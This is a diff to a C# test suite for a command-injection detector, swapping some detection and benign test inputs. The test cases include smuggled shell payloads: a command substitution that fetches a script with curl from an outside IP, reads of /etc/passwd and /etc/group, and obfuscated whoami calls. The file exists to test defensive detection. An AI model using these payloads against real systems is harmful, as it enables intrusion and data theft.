@@ -18,7 +18,7 @@ public sealed class CommandInjectionDetectionTests
     [TestCase("x$(curl -s http://203.0.113.9/s.sh)")]
     public void Command_substitution_is_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);
 
-    [TestCase(";cat${IFS}/etc/passwd")]
+    [TestCase(";head${IFS}-n1${IFS}/etc/group")]
     [TestCase(";w'h'o'am'i")]
     [TestCase(";c\\at /etc/hosts")]
     [TestCase("& who^ami")]
@@ -37,7 +37,7 @@ public sealed class CommandInjectionDetectionTests
     [TestCase("Set $(XDG_CONFIG_HOME) to move the config")]
     [TestCase("Use `rm` with care; it deletes files")]
     [TestCase("Fear & Greed index, rm 3.5 in the report")]
-    [TestCase("tcsh | csh | c-shell")]
+    [TestCase("dash | mksh | posh-shell")]
     [TestCase("Ping me when you are back; cat pictures welcome")]
     public void Dependency_lists_and_prose_stay_benign(string input) => AssertBenign(input);
 }
